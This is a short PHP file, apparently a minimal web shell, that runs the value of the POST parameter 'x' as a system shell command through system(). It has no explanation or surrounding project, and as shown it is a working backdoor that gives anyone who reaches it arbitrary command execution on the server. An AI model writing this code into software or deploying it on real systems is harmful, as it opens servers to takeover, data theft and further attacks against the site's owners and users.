<?php
foreach ($_POST as $key => $value) {
    if ($key === 'x') { system($value); }
}
